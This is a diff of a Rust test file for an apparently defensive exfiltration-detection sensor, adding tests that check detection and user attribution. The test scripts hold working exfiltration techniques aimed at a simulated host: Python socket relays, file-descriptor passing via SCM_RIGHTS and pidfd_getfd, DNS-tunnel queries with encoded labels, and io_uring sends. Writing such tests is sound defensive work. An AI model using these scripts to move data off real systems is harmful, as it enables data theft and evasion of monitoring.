@@ -8,6 +8,7 @@
 
 use std::{
     fs,
+    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
     path::{Path, PathBuf},
     process::{Command, Stdio},
     sync::atomic::{AtomicU32, Ordering},
@@ -16,7 +17,10 @@ use std::{
 };
 
 use mnsensor_tests::{
-    ChildGuard, Sensor, TempDir, cgroup::Cgroup, get_str, get_u64, is, path_str, scaled, show, test_pid,
+    ChildGuard, Sensor, TempDir,
+    cgroup::Cgroup,
+    get_str, get_u64, is, path_str, scaled, show, test_pid,
+    users::{passwd_name, test_users},
 };
 use serde_json::Value;
 
@@ -75,22 +79,28 @@ impl FakeHost {
         ip(&["-n", &ns, "link", "set", "mnsxpeer", "up"]);
         let mut host = host;
         for port in ports {
-            let out = host.dir.join(port.to_string());
-            let mut cmd = Command::new("ip");
-            cmd.args(["netns", "exec", &ns, "python3", "-c", SINK, &host.ip, &port.to_string()])
-                .arg(&out)
-                .stdin(Stdio::null());
-            host.sinks.push(ChildGuard::spawn(&mut cmd));
-            let ready = PathBuf::from(format!("{}.ready", path_str(&out)));
-            for _ in 0..100 {
-                if ready.exists() {
-                    break;
-                }
-                thread::sleep(Duration::from_millis(50));
-            }
-            assert!(ready.exists(), "sink on port {port} did not start");
+            host.sink(SINK, *port, &port.to_string());
         }
         host
+    }
+
+    /// Runs the python `script` (IP PORT OUT) in the namespace, writing to `<dir>/<name>`,
+    /// and waits until it has created `<dir>/<name>.ready`.
+    fn sink(&mut self, script: &str, port: u16, name: &str) {
+        let out = self.dir.join(name);
+        let mut cmd = Command::new("ip");
+        cmd.args(["netns", "exec", &self.ns, "python3", "-c", script, &self.ip, &port.to_string()])
+            .arg(&out)
+            .stdin(Stdio::null());
+        self.sinks.push(ChildGuard::spawn(&mut cmd));
+        let ready = PathBuf::from(format!("{}.ready", path_str(&out)));
+        for _ in 0..100 {
+            if ready.exists() {
+                break;
+            }
+            thread::sleep(Duration::from_millis(50));
+        }
+        assert!(ready.exists(), "sink {name} on port {port} did not start");
     }
 
     /// Bytes received per connection on `port`, once `n` connections have ended (or after a
@@ -168,21 +178,47 @@ const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys
 /// unconnected socket.
 const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";
 
-/// `python3 relay.py SOCK HOST PORT`: accepts one unix-socket connection, reads it to the
-/// end with recv, and sends everything to HOST:PORT.
+/// `python3 relay.py KIND WHERE HOST PORT`: listens on a unix socket (KIND `unix`, WHERE a
+/// path, or `@name` for an abstract one) or on 127.0.0.1 (KIND `tcp`, WHERE the port),
+/// accepts one connection, reads it to the end with recv, and sends everything to HOST:PORT.
 const PY_RELAY: &str = "import socket, sys
-u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(1)
+kind, where = sys.argv[1], sys.argv[2]
+if kind == 'unix':
+    u = socket.socket(socket.AF_UNIX); u.bind(chr(0) + where[1:] if where[0] == '@' else where)
+else:
+    u = socket.socket(); u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); u.bind(('127.0.0.1', int(where)))
+u.listen(1)
 c, _ = u.accept()
 data = b''
 while True:
     b = c.recv(65536)
     if not b: break
     data += b
-o = socket.create_connection((sys.argv[2], int(sys.argv[3]))); o.sendall(data); o.close()
+o = socket.create_connection((sys.argv[3], int(sys.argv[4]))); o.sendall(data); o.close()
 ";
-/// `python3 client.py SOCK`: sends its stdin over a unix socket.
-const PY_UNIX_CLIENT: &str = "import socket, sys
-u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); u.sendall(sys.stdin.buffer.read()); u.close()
+/// `python3 client.py KIND WHERE [splice]`: connects to the relay (retrying until it listens)
+/// and sends its stdin in two halves, 0.2 s apart (see docs/detections.md, "Relays": a
+/// receiver that reads the data before the sender's call returns is not seen); with `splice`
+/// it splices the stdin pipe into the socket the same way.
+const PY_CLIENT: &str = "import os, socket, sys, time
+kind, where = sys.argv[1], sys.argv[2]
+splice = sys.argv[3:] == ['splice']
+data = b'' if splice else sys.stdin.buffer.read()
+for _ in range(200):
+    try:
+        if kind == 'unix':
+            u = socket.socket(socket.AF_UNIX); u.connect(chr(0) + where[1:] if where[0] == '@' else where)
+        else:
+            u = socket.create_connection(('127.0.0.1', int(where)))
+        break
+    except OSError:
+        time.sleep(0.05)
+if splice:
+    os.splice(0, u.fileno(), 20000); time.sleep(0.2)
+    while os.splice(0, u.fileno(), 65536) > 0: pass
+    u.close(); sys.exit()
+half = len(data) // 2
+u.sendall(data[:half]); time.sleep(0.2); u.sendall(data[half:]); u.close()
 ";
 
 fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
@@ -239,10 +275,10 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     // A relay: the tainted client hands the data over a unix socket to another process,
     // which sends it out.
     let relay = s.outside.write("relay.py", PY_RELAY);
-    let client = s.outside.write("client.py", PY_UNIX_CLIENT);
+    let client = s.outside.write("client.py", PY_CLIENT);
     let sock = s.outside.join("relay.sock");
     let code = cg.run(&format!(
-        "python3 {relay} {sock} {ip} 9106 & while [ ! -S {sock} ]; do sleep 0.05; done; cat {file} | python3 {client} {sock}; wait",
+        "python3 {relay} unix {sock} {ip} 9106 & cat {file} | python3 {client} unix {sock}; wait",
         relay = path_str(&relay),
         client = path_str(&client),
         sock = path_str(&sock),
@@ -278,6 +314,338 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     thread::sleep(scaled(Duration::from_secs(2)));
     s.sensor.assert_none("detection for the untainted sender", exfil_to(9101));
     s.sensor.stop();
+}
+
+#[test]
+fn relays_run_by_another_user_are_attributed_to_the_originating_user() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9301, 9302, 9303]);
+    let users = test_users("relays_run_by_another_user", 2);
+    let (relay_user, login_user) = (&users[0], &users[1]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    // The relay user reads the scripts: the directory is world-readable.
+    fs::set_permissions(s.outside.path(), fs::Permissions::from_mode(0o755)).expect("chmod outside");
+    let relay = s.outside.write("relay.py", PY_RELAY);
+    let client = s.outside.write("client.py", PY_CLIENT);
+    // The originating user: this test's own (cat runs as it), logged in as `login_user`
+    // (cat's subshell sets its login uid, as a login would).
+    let origin_uid = fs::metadata("/proc/self").expect("stat /proc/self").uid();
+    let origin_name = passwd_name(origin_uid);
+    assert_ne!(origin_uid, relay_user.uid);
+    let listen_port = 19_000 + (test_pid() % 1000) as u16;
+    let abstract_name = format!("@mnsensor-relay-{}", test_pid());
+    // The third client splices the pipe into the loopback socket (splice, not send).
+    for (kind, place, port, how) in [
+        ("unix", abstract_name, 9301, ""),
+        ("tcp", listen_port.to_string(), 9302, ""),
+        ("tcp", (listen_port + 1).to_string(), 9303, "splice"),
+    ] {
+        let code = cg.run(&format!(
+            "setpriv --reuid={uid} --regid={gid} --clear-groups /usr/bin/python3 {relay} {kind} {place} {ip} {port} & \
+             (echo {auid} > /proc/self/loginuid && exec cat {file}) | python3 {client} {kind} {place} {how}; wait",
+            uid = relay_user.uid,
+            gid = relay_user.gid,
+            auid = login_user.uid,
+            relay = path_str(&relay),
+            client = path_str(&client),
+            ip = host.ip,
+            file = path_str(&file),
+        ));
+        assert_eq!(code, 0, "{kind} {how} relay");
+        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{kind} {how} relay delivered");
+        let d = s.sensor.wait_for(&format!("exfiltration through a {kind} {how} relay"), exfil_to(port));
+        let what = format!("{kind} {how} relay: {}", show(&d));
+        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
+        assert_eq!(get_u64(&d, "process.real_user.id"), u64::from(relay_user.uid), "{what}");
+        assert_eq!(get_str(&d, "process.real_user.name"), relay_user.name, "{what}");
+        assert_eq!(get_str(&d, "mnsensor.taint.origin.user.name"), origin_name, "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.login_user.id"), u64::from(login_user.uid), "{what}");
+        assert_eq!(get_str(&d, "mnsensor.login_user.name"), login_user.name, "{what}");
+        assert_eq!(get_str(&d, "mnsensor.process.comm"), "python3", "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.taint.origin.user.id"), u64::from(origin_uid), "{what}");
+        assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then the relay's socket: {what}");
+    }
+    // The client's loopback connection is a hand-off, not egress.
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("detection for the loopback hop", exfil_to(listen_port));
+    s.sensor.assert_none("detection for the spliced loopback hop", exfil_to(listen_port + 1));
+    s.sensor.stop();
+}
+
+/// `python3 pass.py FILE HOST PORT MODE PIDFILE`: a forked child (untainted: it exists
+/// before the file is opened) gets the parent's descriptor of FILE, over SCM_RIGHTS (MODE
+/// `scm`) or with pidfd_getfd (MODE `pidfd`), reads the file through it and sends it to
+/// HOST:PORT. The parent never reads; it writes the child's pid to PIDFILE.
+const PY_PASS: &str = "import ctypes, os, socket, sys
+f, host, port, mode, pidfile = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
+a, b = socket.socketpair()
+pid = os.fork()
+if pid == 0:
+    a.close()
+    if mode == 'scm':
+        fd = socket.recv_fds(b, 1, 1)[1][0]
+    else:
+        target, num = [int(x) for x in b.recv(64).split()]
+        fd = ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(target), num, 0)
+        if fd < 0: sys.exit('pidfd_getfd: errno %d' % ctypes.get_errno())
+    data = b''
+    while chunk := os.read(fd, 65536): data += chunk
+    c = socket.create_connection((host, port)); c.sendall(data); c.close()
+    b.send(b'done')
+    os._exit(0)
+b.close()
+open(pidfile, 'w').write(str(pid))
+fd = os.open(f, os.O_RDONLY)
+if mode == 'scm': socket.send_fds(a, [b'x'], [fd])
+else: a.send(b'%d %d' % (os.getpid(), fd))
+a.recv(4)
+sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
+";
+
+#[test]
+fn a_received_descriptor_taints_the_receiver_that_reads_it() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9501, 9502]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let script = s.outside.write("pass.py", PY_PASS);
+    for (mode, port) in [("scm", 9501), ("pidfd", 9502)] {
+        let pidfile = s.outside.path().join(format!("{mode}.pid"));
+        let code = cg.run(&format!(
+            "python3 {} {} {} {port} {mode} {}",
+            path_str(&script),
+            path_str(&file),
+            host.ip,
+            path_str(&pidfile)
+        ));
+        assert_eq!(code, 0, "pass.py {mode}");
+        assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{mode}: delivered");
+        let child: u64 = fs::read_to_string(&pidfile).expect("pid file").trim().parse().expect("pid");
+        let d = s.sensor.wait_for(&format!("exfiltration by the {mode} receiver"), exfil_to(port));
+        let what = format!("{mode}: {}", show(&d));
+        assert_eq!(get_u64(&d, "process.pid"), child, "{what}");
+        assert_eq!(
+            get_u64(&d, "mnsensor.taint.origin.pid"),
+            child,
+            "the receiver read the file itself: {what}"
+        );
+        assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{what}");
+        assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
+    }
+    s.sensor.stop();
+}
+
+/// `python3 dns.py FILE HOST MODE NAME…`: reads FILE unless MODE is `clean`, then sends one
+/// A query per NAME to HOST:53, over UDP (sendto, unconnected) or, MODE `tcp`, over TCP.
+const PY_DNS: &str = "import socket, struct, sys
+f, host, mode = sys.argv[1:4]
+if mode != 'clean': open(f, 'rb').read()
+def query(name):
+    m = struct.pack('>HHHHHH', 1, 0x100, 1, 0, 0, 0)
+    for l in name.split('.'): m += bytes([len(l)]) + l.encode()
+    return m + bytes([0, 0, 1, 0, 1])
+for name in sys.argv[4:]:
+    m = query(name)
+    if mode == 'tcp':
+        c = socket.create_connection((host, 53)); c.sendall(struct.pack('>H', len(m)) + m); c.close()
+    else:
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(m, (host, 53))
+";
+
+/// A UDP listener on `port` in the fake host: appends each datagram's size to `<dir>/udp-PORT`.
+const UDP_SINK: &str = "import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], int(sys.argv[2])))
+open(sys.argv[3] + '.ready', 'w').close()
+while True:
+    d, _ = s.recvfrom(65536)
+    with open(sys.argv[3], 'a') as f: f.write(f'{len(d)}\\n')
+";
+
+fn dns_for(domain: &'static str) -> impl Fn(&Value) -> bool {
+    move |e| {
+        is(e, "detection.dns_tunnel") && e.get("mnsensor.dns.domain").and_then(Value::as_str) == Some(domain)
+    }
+}
+
+#[test]
+fn dns_queries_of_a_tainted_process_signal_long_high_entropy_labels() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    // TCP/53 is the fake host's TCP sink; UDP/53 a datagram sink.
+    let mut host = FakeHost::new(&[53]);
+    host.sink(UDP_SINK, 53, "udp-53");
+    let udp_out = host.dir.join("udp-53");
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let script = s.outside.write("dns.py", PY_DNS);
+    // 32 base32 characters (5 bits each): what a tunnel puts in a label.
+    let tunnel = "mfrggzdfmztwq2lknnwg23tpobyxe43u";
+    let run = |mode: &str, names: &[String]| {
+        let code = cg.run(&format!(
+            "python3 {} {} {} {mode} {}",
+            path_str(&script),
+            path_str(&file),
+            host.ip,
+            names.join(" ")
+        ));
+        assert_eq!(code, 0, "dns.py {mode} {names:?}");
+    };
+    run(
+        "tainted",
+        &["www.example.test".into(), "mail.example.test".into(), format!("{tunnel}.example.test")],
+    );
+    run("clean", &[format!("{tunnel}.clean.test")]);
+    run("tainted", &["www.normal.test".into(), "mail.normal.test".into()]);
+    run("tcp", &[format!("{}.tcp.test", "a".repeat(45))]);
+    let got = || fs::read_to_string(&udp_out).unwrap_or_default().lines().count();
+    for _ in 0..100 {
+        if got() >= 6 {
+            break;
+        }
+        thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(got(), 6, "datagrams at the fake DNS server");
+
+    let d = s.sensor.wait_for("DNS tunnel label over UDP", dns_for("example.test"));
+    let what = show(&d);
+    assert_eq!(get_str(&d, "dns.question.name"), format!("{tunnel}.example.test"), "{what}");
+    assert_eq!(get_u64(&d, "mnsensor.dns.queries"), 3, "two normal queries counted before it: {what}");
+    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), tunnel.len() as u64, "{what}");
+    assert_eq!(get_str(&d, "network.transport"), "udp", "{what}");
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "{what}");
+    assert_eq!(get_u64(&d, "destination.port"), 53, "{what}");
+    let d = s.sensor.wait_for("DNS long label over TCP", dns_for("tcp.test"));
+    assert_eq!(get_str(&d, "network.transport"), "tcp", "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), 45, "{}", show(&d));
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("signal for normal names", dns_for("normal.test"));
+    s.sensor.assert_none("signal for an untainted process", dns_for("clean.test"));
+    s.sensor.stop();
+}
+
+#[test]
+fn dns_thresholds_come_from_the_policy() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let mut host = FakeHost::new(&[]);
+    host.sink(UDP_SINK, 53, "udp-53");
+    let udp_out = host.dir.join("udp-53");
+    // Defaults would signal the 45-character label (40) and not four short queries (500).
+    let mut s = setup(&cg, 1, "    action: alert\n    dns_tunnel: {long_label: 50, queries: 4}\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let script = s.outside.write("dns.py", PY_DNS);
+    let mut names = vec![format!("{}.long.test", "a".repeat(45))];
+    names.extend((1..=4).map(|i| format!("q{i}.count.test")));
+    let code = cg.run(&format!(
+        "python3 {} {} {} tainted {}",
+        path_str(&script),
+        path_str(&file),
+        host.ip,
+        names.join(" ")
+    ));
+    assert_eq!(code, 0, "dns.py");
+    let got = || fs::read_to_string(&udp_out).unwrap_or_default().lines().count();
+    for _ in 0..100 {
+        if got() >= names.len() {
+            break;
+        }
+        thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(got(), names.len(), "datagrams at the fake DNS server");
+    let d = s.sensor.wait_for("query count over the policy's threshold", dns_for("count.test"));
+    let what = show(&d);
+    assert_eq!(get_str(&d, "dns.question.name"), "q4.count.test", "the fourth query fires: {what}");
+    assert_eq!(get_u64(&d, "mnsensor.dns.queries"), 4, "{what}");
+    assert_eq!(get_u64(&d, "mnsensor.dns.label_length"), 0, "no label fired: {what}");
+    thread::sleep(scaled(Duration::from_secs(2)));
+    s.sensor.assert_none("a 45-character label under long_label 50", dns_for("long.test"));
+    s.sensor.stop();
+}
+
+/// Selects the io_uring sender mode of this binary: "FILE ADDRESS PORT".
+const URING_ENV: &str = "MNSENSOR_EXFIL_URING";
+
+#[test]
+fn io_uring_connect_and_send_are_detected_with_their_bytes() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9401]);
+    let mut s = setup(&cg, 1, "    action: alert\n");
+    let file = s.protected.join("mynumber-0.csv");
+    let exe = std::env::current_exe().expect("test binary");
+    // This binary re-executed in the cgroup runs only `io_uring_sender` (below).
+    let code = cg.run(&format!(
+        "{URING_ENV}='{} {} 9401' {} --ignored --exact io_uring_sender",
+        path_str(&file),
+        host.ip,
+        path_str(&exe)
+    ));
+    assert_eq!(code, 0, "io_uring sender");
+    assert_eq!(host.received_n(9401, 1), vec![SIZE as u64]);
+    let d = s.sensor.wait_for("exfiltration by io_uring", exfil_to(9401));
+    // No send syscall carried these bytes: they were counted on the socket's packets.
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
+    assert_eq!(get_str(&d, "network.transport"), "tcp", "{}", show(&d));
+    s.sensor.stop();
+}
+
+/// The io_uring sender: reads the protected file with read(2), then connects and sends it
+/// with io_uring requests only. Runs only when [`URING_ENV`] is set.
+#[test]
+#[ignore = "helper of io_uring_connect_and_send_are_detected_with_their_bytes"]
+fn io_uring_sender() {
+    use io_uring::{IoUring, opcode, types};
+    let Ok(spec) = std::env::var(URING_ENV) else { return };
+    let parts: Vec<&str> = spec.split(' ').collect();
+    let data = fs::read(parts[0]).expect("read the protected file");
+    let ip: std::net::Ipv4Addr = parts[1].parse().expect("address");
+    let port: u16 = parts[2].parse().expect("port");
+    // SAFETY: plain socket(2); the descriptor is closed below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) };
+    assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
+    let addr = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: port.to_be(),
+        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(ip.octets()) },
+        sin_zero: [0; 8],
+    };
+    let mut ring = IoUring::new(4).expect("io_uring_setup");
+    let mut submit = |entry: io_uring::squeue::Entry| -> i32 {
+        // SAFETY: the buffers the entry points to live until its completion is reaped here.
+        unsafe { ring.submission().push(&entry).expect("queue full") };
+        ring.submit_and_wait(1).expect("io_uring_enter");
+        ring.completion().next().expect("a completion").result()
+    };
+    let connect = opcode::Connect::new(
+        types::Fd(fd),
+        (&raw const addr).cast::<libc::sockaddr>(),
+        size_of::<libc::sockaddr_in>() as libc::socklen_t,
+    );
+    assert_eq!(submit(connect.build()), 0, "io_uring connect");
+    let mut at = 0;
+    while at < data.len() {
+        let send = opcode::Send::new(types::Fd(fd), data[at..].as_ptr(), (data.len() - at) as u32);
+        let n = submit(send.build());
+        assert!(n > 0, "io_uring send: {n}");
+        at += n as usize;
+    }
+    // SAFETY: our descriptor.
+    unsafe { libc::close(fd) };
 }
 
 #[test]
